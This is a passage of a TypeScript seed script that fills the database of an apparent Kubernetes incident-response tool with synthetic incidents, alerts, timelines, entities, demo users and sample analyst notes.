  life.acknowledgedAt = move('acknowledged', 'detection_analysis', 10, 'new');
  if (status === 'acknowledged') return finish(life);
  move('investigating', 'detection_analysis', 20, 'acknowledged');
  if (status === 'investigating') {
    if (plan.big || chance(0.3)) {
      const at = step(15);
      life.history.push({ at, kind: 'phase_change', summary: 'Phase Detection & analysis → Containment', data: { phase: 'containment' }, actor: life.assignee ?? who });
      life.phase = 'containment';
    }
    return finish(life);
  }
  const closedEarly = status === 'closed' && chance(0.35); // triaged straight to closed (false positives)
  if (!closedEarly) {
    life.containedAt = move('contained', 'containment', 45, 'investigating');
    if (status === 'contained') {
      if (chance(0.3)) {
        life.eradicatedAt = step(60);
        life.phase = 'eradication';
      }
      return finish(life);
    }
    life.eradicatedAt = step(120);
    life.recoveredAt = step(240);
    life.resolvedAt = move('resolved', 'recovery', 30, 'contained');
    if (status === 'resolved') return finish(life);
  }
  const resolution = closedEarly ? (chance(0.85) ? 'false_positive' : 'duplicate') : chance(0.9) ? 'resolved' : 'false_positive';
  life.resolution = resolution;
  life.resolutionSummary =
    resolution === 'false_positive'
      ? pick(['Expected behaviour: debugging session by the owning team.', 'Known tool in the image; rule tuned.', 'Load test traffic, approved change.'])
      : resolution === 'duplicate'
        ? 'Same activity as an earlier incident.'
        : pick(['Pod replaced from a clean image; credentials rotated.', 'Attacker foothold removed; NetworkPolicy tightened.', 'Compromised token revoked; RBAC narrowed.']);
  life.closedAt = move('closed', 'post_incident', closedEarly ? 30 : 24 * 60, closedEarly ? 'investigating' : 'resolved');
  life.history[life.history.length - 1]!.summary = `Closed as ${resolution.replace('_', ' ')}: ${life.resolutionSummary}`;
  if (resolution === 'duplicate') {
    const target = [...earlier].reverse().find((p) => p.cluster === plan.cluster && p.correlationKey !== plan.correlationKey && p.first > plan.first - 3 * DAY);
    if (target) {
      life.mergedIntoId = target.id;
      life.history.push({ at: life.closedAt, kind: 'merge', summary: `Merged into #${target.id}`, data: { into: target.id }, actor: life.assignee ?? who });
    }
  }
  return finish(life);
}

const NOTES = [
  'Looked at the pod spec: image from our registry, but the process tree does not match the Dockerfile.',
  'Pinged the owning team in #sec-incidents; waiting for confirmation that nobody was debugging.',
  'Egress to the pool is blocked by the isolate policy now. **Keep the pod** for forensics.',
  'Same pattern as last week: a CI job with `kubectl` credentials it should not have.',
  'Checked CloudTrail: no use of the node role outside the cluster.',
  'Timeline so far:\n\n1. shell spawned\n2. binary dropped in /tmp\n3. outbound to 198.51.100.23:4444',
];

// ───────────────────────────── the seed ─────────────────────────────

/** Seeds the large data set into `databaseUrl` (migrations must be applied). */
export async function seedLarge(databaseUrl: string, options: LargeSeedOptions = {}): Promise<LargeSeedResult> {
  const incidents = options.incidents ?? 10_000;
  const alerts = options.alerts ?? 1_000_000;
  const bigIncidentAlerts = options.bigIncidentAlerts ?? Math.min(150_000, Math.floor(alerts * 0.15));
  if (incidents < 2 || alerts < incidents || bigIncidentAlerts < 1 || alerts - bigIncidentAlerts < incidents - 1) {
    throw new Error(`seed:large: ${incidents} incidents, ${alerts} alerts (${bigIncidentAlerts} in the large one) do not fit together`);
  }
  const log = options.log ?? (() => undefined);
  const started = performance.now();
  state = SEED;

  const client = new pg.Client({ connectionString: databaseUrl, application_name: 'cordon-seed-large' });
  await client.connect();
  try {
    const existing = await existingSeed(client);
    if (existing) return { ...existing, seeded: false, seconds: (performance.now() - started) / 1_000 };
    const { rows: count } = await client.query<{ n: number }>('SELECT count(*)::int AS n FROM incident');
    if (count[0]!.n > 100) {
      throw new Error(
        `the database already has ${count[0]!.n} incidents: seed:large only fills an empty database (or one with the demo's few incidents). ` +
          'Point DATABASE_URL at an empty database, or delete .cordon/ to start over.',
      );
    }

    const team = await ensureTeam(databaseUrl);
    const now = Date.now();
    const world = buildWorld();

    await client.query('BEGIN');
    // One seeding at a time; a second one waits, then finds the marker.
    await client.query(`SELECT pg_advisory_xact_lock(hashtext('cordon.seed.large'))`);
    if (await existingSeed(client)) {
      await client.query('ROLLBACK');
      return { ...(await existingSeed(client))!, seeded: false, seconds: (performance.now() - started) / 1_000 };
    }
    await client.query('SET LOCAL synchronous_commit = off');
    await client.query(
      `INSERT INTO cluster (id, name, "displayName", source, state, "createdAt", "updatedAt")
       SELECT r.id, r.name, r."displayName", 'reported', 'unknown', $2::timestamp, $2::timestamp
         FROM jsonb_to_recordset($1::jsonb) AS r(id text, name text, "displayName" text)
       ON CONFLICT (name) DO NOTHING`,
      [JSON.stringify(world.map((c) => ({ id: c.id, name: c.name, displayName: c.displayName }))), iso(now - 91 * DAY)],
    );
    // Clusters of the same name from an earlier partial setup keep their ids.
    const { rows: clusterIds } = await client.query<{ id: string; name: string }>('SELECT id, name FROM cluster WHERE name = ANY($1)', [world.map((c) => c.name)]);
    for (const c of world) c.id = clusterIds.find((r) => r.name === c.name)!.id;

    const plans = planIncidents(world, { incidents, alerts, bigIncidentAlerts }, now) as Plan[];
    const { rows: ids } = await client.query<{ id: number }>(
      `SELECT nextval(pg_get_serial_sequence('incident', 'id'))::int AS id FROM generate_series(1, $1) ORDER BY 1`,
      [plans.length],
    );
    plans.forEach((plan, i) => (plan.id = ids[i]!.id));
    const big = plans.find((p) => p.big)!;

    // 1. Alerts first: writing them fills in each group's count and time range.
    let t0 = performance.now();
    const alertCount = await copyRows(client, 'alert', ALERT_COLUMNS, alertRows(plans, now));
    log(`alerts: ${alertCount.toLocaleString('en')} in ${((performance.now() - t0) / 1_000).toFixed(1)} s`);

    // 2. Incidents, with a lifecycle that fits their age.
    t0 = performance.now();
    const lifecycles = new Map<number, Lifecycle>();
    plans.forEach((plan, i) => lifecycles.set(plan.id, lifecycleOf(plan, team, now, plans.slice(Math.max(0, i - 200), i))));
    await copyRows(
      client,
      'incident',
      ['id', 'title', 'severity', 'status', 'phase', 'assigneeId', 'clusterId', 'correlationKey', 'namespace', 'workload', 'node', 'principal', 'rules', 'techniques', 'alertCount', 'firstSeenAt', 'lastSeenAt', 'detectedAt', 'acknowledgedAt', 'containedAt', 'eradicatedAt', 'recoveredAt', 'resolvedAt', 'closedAt', 'resolution', 'resolutionSummary', 'mergedIntoId', 'createdAt', 'updatedAt'],
      (function* () {
        for (const plan of plans) {
          const l = lifecycles.get(plan.id)!;
          const used = plan.rules.filter((r) => plan.groups.some((g) => g.spec === r && g.count > 0));
          const opt = (ms: number | null) => (ms === null ? null : iso(ms));
          yield [
            plan.id, plan.title, severityOf(used), l.status, l.phase, l.assignee?.id ?? null, plan.cluster.id, plan.correlationKey,
            plan.namespace, plan.workload?.name ?? null, plan.node, plan.principal, textArray(used.map((r) => r.rule).sort()),
            textArray(techniquesOf(used.flatMap((r) => r.tags))), plan.alerts, iso(plan.first), iso(plan.last), iso(l.detectedAt),
            opt(l.acknowledgedAt), opt(l.containedAt), opt(l.eradicatedAt), opt(l.recoveredAt), opt(l.resolvedAt), opt(l.closedAt),
            l.resolution, l.resolutionSummary, l.mergedIntoId, iso(l.detectedAt), iso(l.updatedAt),
          ];
        }
      })(),
    );
    log(`incidents: ${plans.length.toLocaleString('en')} in ${((performance.now() - t0) / 1_000).toFixed(1)} s`);

    // 3. Timelines: the correlation decisions, one entry per alert group, the analysts' steps.
    t0 = performance.now();
    const timelineCount = await copyRows(
      client,
      'timeline_entry',
      ['incidentId', 'at', 'kind', 'actorType', 'actorId', 'actorLabel', 'summary', 'data', 'groupKey', 'count', 'lastAt'],
      (function* () {
        for (const plan of plans) {
          const data = (rule: string) => JSON.stringify({ key: plan.correlationKey, scope: plan.scope, rule, windowMinutes: CORRELATION_WINDOW_MINUTES });
          const firstOfRule = new Map<string, number>();
          for (const g of plan.groups) if (g.count > 0) firstOfRule.set(g.spec.rule, Math.min(firstOfRule.get(g.spec.rule) ?? Infinity, g.first));
          const opening = plan.rules[0]!.rule;
          yield [plan.id, iso(plan.first), 'correlation', 'system', null, 'correlation', `Opened for ${plan.subject}: first alert "${opening}"`, data(opening), 'corr|open', 1, iso(plan.first)];
          for (const [rule, at] of firstOfRule) {
            if (rule === opening) continue;
            yield [plan.id, iso(at), 'correlation', 'system', null, 'correlation', `"${rule}" grouped here: same ${plan.subject} within ${CORRELATION_WINDOW_MINUTES} min`, data(rule), `corr|${rule}`, 1, iso(at)];
          }
          for (const g of plan.groups) {
            if (g.count === 0) continue;
            const entry = JSON.stringify({ rule: g.spec.rule, severity: SEVERITY[g.spec.priority], source: 'falco' });
            yield [plan.id, iso(g.first), 'alert', 'source', null, 'falco', g.spec.sentence, entry, g.dedupKey, g.count, iso(g.last)];
          }
          for (const h of lifecycles.get(plan.id)!.history) {
            yield [plan.id, iso(h.at), h.kind, 'user', h.actor.id, h.actor.email, h.summary, JSON.stringify(h.data), null, 1, null];
          }
        }
      })(),
    );
    log(`timeline entries: ${timelineCount.toLocaleString('en')} in ${((performance.now() - t0) / 1_000).toFixed(1)} s`);

    // 4. Entities and their links (as lib/ingest/writer/correlate.ts's entitiesOf names them).
    t0 = performance.now();
    const entities = new Map<string, { id: string; clusterId: string; kind: string; key: string; name: string; namespace: string | null; first: number; last: number }>();
    const links: Value[][] = [];
    for (const plan of plans) {
      const linked = new Set<string>();
      const link = (kind: string, key: string, name: string, namespace: string | null, primary: boolean) => {
        const ref = `${plan.cluster.id}|${kind}|${key}`;
        let entity = entities.get(ref);
        if (!entity) entities.set(ref, (entity = { id: `e${hex(24)}`, clusterId: plan.cluster.id, kind, key, name, namespace, first: plan.first, last: plan.last }));
        entity.first = Math.min(entity.first, plan.first);
        entity.last = Math.max(entity.last, plan.last);
        if (linked.has(entity.id)) return;
        linked.add(entity.id);
        links.push([plan.id, entity.id, primary, iso(plan.first)]);
      };
      if (plan.namespace) link('namespace', plan.namespace, plan.namespace, plan.namespace, false);
      if (plan.scope === 'workload') {
        const key = `${plan.namespace}/Deployment/${plan.workload!.name}`;
        link('workload', key, plan.workload!.name, plan.namespace, true);
        for (const p of plan.pods) link('pod', `${plan.namespace}/${p.name}`, p.name, plan.namespace, false);
        for (const n of new Set(plan.pods.map((p) => p.node))) link('node', n, n, null, false);
        link('image', plan.workload!.image, plan.workload!.image, null, false);
        for (const r of plan.rules) {
          const domain = r.extra?.['fd.sip.name'];
          if (typeof domain === 'string') link('domain', domain, domain, null, false);
        }
      } else if (plan.scope === 'principal') {
        const sa = /^system:serviceaccount:([^:]+):([^:]+)$/.exec(plan.principal!);
        if (sa) link('service_account', `${sa[1]}/${sa[2]}`, sa[2]!, sa[1]!, true);
        else link('user', plan.principal!, plan.principal!, null, true);
      } else {
        link('node', plan.node!, plan.node!, null, true);
      }
    }
    await copyRows(
      client,
      'entity',
      ['id', 'clusterId', 'kind', 'key', 'name', 'namespace', 'firstSeenAt', 'lastSeenAt'],
      [...entities.values()].map((e) => [e.id, e.clusterId, e.kind, e.key, e.name, e.namespace, iso(e.first), iso(e.last)]),
    );
    await copyRows(client, 'incident_entity', ['incidentId', 'entityId', 'isPrimary', 'firstSeenAt'], links);
    log(`entities: ${entities.size.toLocaleString('en')}, links: ${links.length.toLocaleString('en')} in ${((performance.now() - t0) / 1_000).toFixed(1)} s`);

    // 5. A few notes on triaged incidents (more on the large one).
    const notes: Value[][] = [];
    for (const plan of plans) {
      const l = lifecycles.get(plan.id)!;
      if (!l.assignee || !(plan.big || chance(0.15))) continue;
      for (let n = 0; n < (plan.big ? 6 : 1 + int(2)); n += 1) {
        const at = iso(Math.min(now - 1_000, l.detectedAt + (n + 1) * (10 + int(50)) * 60_000));
        notes.push([`n${hex(24)}`, plan.id, l.assignee.id, plan.big ? NOTES[n % NOTES.length]! : pick(NOTES), at, at]);
      }
    }
    await copyRows(client, 'note', ['id', 'incidentId', 'authorId', 'body', 'createdAt', 'updatedAt'], notes);

    const summary = { incidents: plans.length, alerts: alertCount, timelineEntries: timelineCount, entities: entities.size, bigIncidentId: big.id, seededAt: iso(now) };
    await client.query(`INSERT INTO setting (key, value, "updatedAt") VALUES ($1, $2::jsonb, now())`, [MARKER, JSON.stringify(summary)]);
    t0 = performance.now();
    await client.query('COMMIT');
    log(`committed in ${((performance.now() - t0) / 1_000).toFixed(1)} s`);

    // Statistics and the visibility map, as a database that has been running a while has them.
    t0 = performance.now();
    await client.query('VACUUM (ANALYZE) incident, alert, timeline_entry, entity, incident_entity, note');
    log(`vacuum analyze: ${((performance.now() - t0) / 1_000).toFixed(1)} s`);
    return { seeded: true, ...summary, seconds: (performance.now() - started) / 1_000 };
  } catch (error) {
    await client.query('ROLLBACK').catch(() => undefined);
    throw error;
  } finally {
    await client.end();
  }
}

async function existingSeed(client: pg.Client): Promise<Omit<LargeSeedResult, 'seeded' | 'seconds'> | null> {
  const { rows } = await client.query<{ value: Omit<LargeSeedResult, 'seeded' | 'seconds'> }>('SELECT value FROM setting WHERE key = $1', [MARKER]);
  return rows[0]?.value ?? null;
}

/**
 * Assignees and note authors. An empty database gets the demo accounts (README) plus a few more
 * analysts and responders with random passwords; otherwise the existing triage roles are used.
 */
async function ensureTeam(databaseUrl: string): Promise<Person[]> {
  process.env.DATABASE_URL = databaseUrl;
  const { authDb, disconnectDb } = await import('../lib/db/client');
  try {
    if ((await authDb.user.count()) === 0) {
      const { createUser } = await import('../lib/users/commands/create-user');
      const { demoCredentials } = await import('../prisma/seed');
      const actor = { type: 'system' as const, id: null, label: 'seed:large' };
      for (const role of ['viewer', 'analyst', 'responder', 'admin'] as const) {
        await createUser({ ...demoCredentials(role), role, name: `Demo ${role}` }, actor);
      }
      const extra = [['ana.ruiz', 'analyst'], ['ben.okafor', 'analyst'], ['chloe.martin', 'analyst'], ['dev.patel', 'responder'], ['eli.novak', 'responder'], ['fay.lindqvist', 'analyst']] as const;
      for (const [name, role] of extra) {
        await createUser({ email: `${name}@cordon.local`, password: randomBytes(18).toString('base64url'), role, name: name.replace('.', ' ') }, actor);
      }
    }
    const team = await authDb.user.findMany({ where: { disabled: false, role: { not: 'viewer' } }, select: { id: true, email: true }, orderBy: { email: 'asc' } });
    if (team.length === 0) throw new Error('seed:large needs at least one analyst, responder or admin to assign incidents to');
    return team;
  } finally {
    await disconnectDb();
  }
}

// ───────────────────────────── npm run seed:large ─────────────────────────────

async function main(): Promise<void> {
  const say = (line: string) => console.log(`[seed:large] ${line}`);
  let embedded: EmbeddedDb | null = null;
  let url = process.env.DATABASE_URL;
  try {
    if (!url) {
      const dataDir = path.resolve(projectRoot, process.env.CORDON_DATA_DIR ?? '.cordon');
      try {
        embedded = await startEmbeddedDb({ dataDir: path.join(dataDir, 'pg'), database: 'cordon', port: process.env.CORDON_PG_PORT ? Number(process.env.CORDON_PG_PORT) : undefined });
      } catch (error) {
        throw new Error(`${error instanceof Error ? error.message : String(error)}\nIs \`npm start\` running on ${dataDir}? Stop it first (seed:large runs the same embedded database).`);
      }
      url = embedded.url;
      say(`embedded PostgreSQL on 127.0.0.1:${embedded.port} (data in ${path.relative(projectRoot, dataDir) || '.'}/pg)`);
    }
    await runPrisma(['migrate', 'deploy'], { databaseUrl: url, quiet: true });
    const result = await seedLarge(url, { log: say });
    if (!result.seeded) {
      say(`this database already holds the large seed (${result.incidents.toLocaleString('en')} incidents, ${result.alerts.toLocaleString('en')} alerts; large incident #${result.bigIncidentId}): nothing to do`);
    } else {
      say(
        `seeded ${result.incidents.toLocaleString('en')} incidents, ${result.alerts.toLocaleString('en')} alerts, ${result.timelineEntries.toLocaleString('en')} timeline entries, ` +
          `${result.entities.toLocaleString('en')} entities in ${result.seconds.toFixed(0)} s; the large incident is #${result.bigIncidentId}`,
      );
    }
  } finally {
    await embedded?.stop();
  }
}

if (process.argv[1] && import.meta.url === pathToFileURL(path.resolve(process.argv[1])).href) {
  main().catch((error: unknown) => {
    console.error(`[seed:large] failed: ${error instanceof Error ? error.message : String(error)}`);
    process.exit(1);
  });
}
